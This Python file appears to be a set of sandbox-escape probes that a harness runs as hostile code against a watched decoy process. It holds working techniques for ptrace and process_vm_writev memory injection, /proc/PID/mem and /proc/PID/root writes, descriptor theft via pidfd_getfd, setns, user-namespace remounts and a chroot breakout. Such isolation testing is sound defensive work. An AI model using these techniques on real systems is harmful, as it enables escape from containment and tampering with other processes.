"""Attempts to reach a process outside: its descriptors, memory, namespaces and signals; and to outlive the jail.

Run as hostile code: `python -I processes.py NAME TOKEN JSON`, stdlib and ctypes only. `decoy` is a process outside that
anybody of its user may trace; at `memory` it has 64 bytes that the judge watches, and `decoy_fd` is its end of a pipe.
"""

from __future__ import annotations

import ctypes
import json
import os
import struct
import sys
import time
from typing import Any

PIDFD_OPEN, PIDFD_GETFD = 434, 438  # the same number on every architecture
PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 5, 16, 17
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 32, 4096, 16384, 1 << 18
SI_QUEUE = -1

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)


class Span(ctypes.Structure):
    """struct iovec."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def take_descriptor(token: bytes, at: dict[str, Any]) -> None:
    """pidfd_getfd: a copy of another process's open pipe."""
    pidfd = _check(libc.syscall(PIDFD_OPEN, at["decoy"], 0))
    os.write(_check(libc.syscall(PIDFD_GETFD, pidfd, at["decoy_fd"], 0)), token)


def write_memory(token: bytes, at: dict[str, Any]) -> None:
    """process_vm_writev: straight into another process's memory."""
    held = ctypes.create_string_buffer(token, len(token))
    ours, theirs = Span(ctypes.addressof(held), len(token)), Span(at["memory"], len(token))
    _check(libc.process_vm_writev(at["decoy"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0))


def trace(token: bytes, at: dict[str, Any]) -> None:
    """ptrace: stop another process and write words into it."""
    _check(libc.ptrace(PTRACE_ATTACH, at["decoy"], None, None))
    os.waitpid(at["decoy"], 0)
    for k in range(0, len(token), 8):
        libc.ptrace(PTRACE_POKEDATA, at["decoy"], at["memory"] + k, int.from_bytes(token[k : k + 8], sys.byteorder))
    _check(libc.ptrace(PTRACE_DETACH, at["decoy"], None, None))


def proc_memory(token: bytes, at: dict[str, Any]) -> None:
    """/proc/PID/mem of another process."""
    os.pwrite(os.open(f"/proc/{at['decoy']}/mem", os.O_WRONLY), token, at["memory"])


def proc_root(token: bytes, at: dict[str, Any]) -> None:
    """A new file below /proc/PID/root of another process: its view of the disk."""
    path = f"/proc/{at['decoy']}/root{at['tmp']}/{at['prefix']}root"
    os.write(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600), token)


def proc_descriptor(token: bytes, at: dict[str, Any]) -> None:
    """/proc/PID/fd of another process: its open pipe by path."""
    os.write(os.open(f"/proc/{at['decoy']}/fd/{at['decoy_fd']}", os.O_WRONLY), token)


def signals(token: bytes, at: dict[str, Any]) -> None:
    """Queued signals to another process, 4 bytes in each."""
    for k in range(0, len(token), 4):
        (word,) = struct.unpack(">i", token[k : k + 4])
        info = struct.pack("=3i4x2i", at["signal"], 0, SI_QUEUE, os.getpid(), os.getuid()) + struct.pack("=q", word)
        _check(libc.syscall(_number(129, 138), at["judge"], at["signal"], info.ljust(128, b"\0")))


def outlive(token: bytes, at: dict[str, Any]) -> None:
    """A grandchild in a session of its own that is still there when the attempt has ended."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in (0, 1, 2):
                os.dup2(os.open("/dev/null", os.O_RDWR), fd)
            time.sleep(at["hold_s"])
        os._exit(0)
    os.wait()


def enter_namespace(token: bytes, at: dict[str, Any]) -> None:
    """setns: step into the mount namespace of a process outside, then write a file."""
    fd = os.open(f"/proc/{at['decoy']}/ns/mnt", os.O_RDONLY)
    _check(libc.setns(fd, CLONE_NEWNS))
    os.write(os.open(f"{at['tmp']}/{at['prefix']}setns", os.O_CREAT | os.O_WRONLY, 0o600), token)


def remount(token: bytes, at: dict[str, Any]) -> None:
    """Make the read-only data folder writable again, then write a file."""
    libc.mount(None, at["data"].encode(), None, MS_REMOUNT | MS_BIND, None)
    os.write(os.open(f"{at['data']}/{at['prefix']}remount", os.O_CREAT | os.O_WRONLY, 0o600), token)


def nested_user(token: bytes, at: dict[str, Any]) -> None:
    """A user namespace inside, where one is root again: mount the data folder writable, then write a file."""
    _check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    data = at["data"].encode()
    _check(libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None))
    _check(libc.mount(data, data, None, MS_BIND, None))
    remount(token, at)


def climb(token: bytes, at: dict[str, Any]) -> None:
    """The classical way out of a chroot: a second chroot with the working folder above it, then `..` to the top."""
    inner = f"{at['tmp']}/{at['prefix']}inner"
    os.mkdir(inner)
    os.chroot(inner)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    os.write(os.open(f"{at['tmp']}/{at['prefix']}climb", os.O_CREAT | os.O_WRONLY, 0o600), token)


def _number(x86_64: int, others: int) -> int:
    return x86_64 if os.uname().machine == "x86_64" else others


def _check(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


if __name__ == "__main__":
    try:
        globals()[sys.argv[1]](sys.argv[2].encode(), json.loads(sys.argv[3]))
    except OSError as e:
        sys.exit(f"refused: {e.strerror}")  # a traceback could name the token
